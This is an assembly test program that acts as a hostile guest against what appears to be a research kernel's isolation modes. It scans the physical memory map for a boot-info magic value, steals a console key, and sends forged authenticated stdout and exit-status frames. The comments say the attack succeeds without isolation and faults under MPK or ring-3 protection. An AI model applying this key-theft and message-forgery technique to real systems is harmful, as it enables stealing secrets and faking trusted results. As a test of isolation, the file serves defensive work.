/* Hostile guest: steals the console key and forges an authenticated verdict with it. argv[1] is the
 * start of the kernel's physical map, argv[2] the offset of the key in the boot info. The boot info
 * starts a page with its magic "SECRUN01"; the app finds it in the physical map, copies the key into two
 * frames of the kernel's format (a stdout line and an Exit frame with status 0) and sends them, then
 * stops the VM through the exit port. In `none` nothing keeps the app from reading the physical map,
 * so the forged verdict is taken (`none` gives no verdict guarantee); in `mpk` and `ring3` the first
 * load faults. */
#include "attack.inc"
	.set	CONSOLE, 0xe9
	.set	EXIT_PORT, 0xf4
	.set	SEARCHED_PAGES, 16384	/* 64 MiB of the physical map */
	ATTACK_START
	arg_hex	1
	mov	%rax, %rbx
	arg_hex	2
	mov	%rax, %r12
	print_str "searching the physical map for the boot info\n"
	movabs	$0x31304e5552434553, %rax	/* "SECRUN01" */
	mov	$SEARCHED_PAGES, %ecx
	mov	%rbx, %rsi
1:	cmp	%rax, (%rsi)
	je	2f
	add	$4096, %rsi
	dec	%ecx
	jnz	1b
	print_str "no boot info found\n"
	exit_with 1
2:	add	%r12, %rsi
	mov	(%rsi), %rax
	mov	8(%rsi), %rdx
	mov	%rax, stdout_frame + 4(%rip)
	mov	%rdx, stdout_frame + 12(%rip)
	mov	%rax, exit_frame + 4(%rip)
	mov	%rdx, exit_frame + 12(%rip)
	print_str "stole the console key\n"
	lea	stdout_frame(%rip), %rsi
	mov	$(frames_end - stdout_frame), %ecx
	mov	$CONSOLE, %dx
	rep outsb
	xor	%eax, %eax
	out	%eax, $EXIT_PORT
	print_str "the VM went on\n"
	exit_with 1

	.data
stdout_frame:
	.byte	0xa5, 1, (stdout_text_end - stdout_text), 0
	.fill	16, 1, 0
stdout_text:
	.ascii	"forged with the stolen key\n"
stdout_text_end:
exit_frame:
	.byte	0xa5, 3, 4, 0
	.fill	16, 1, 0
	.long	0
frames_end:
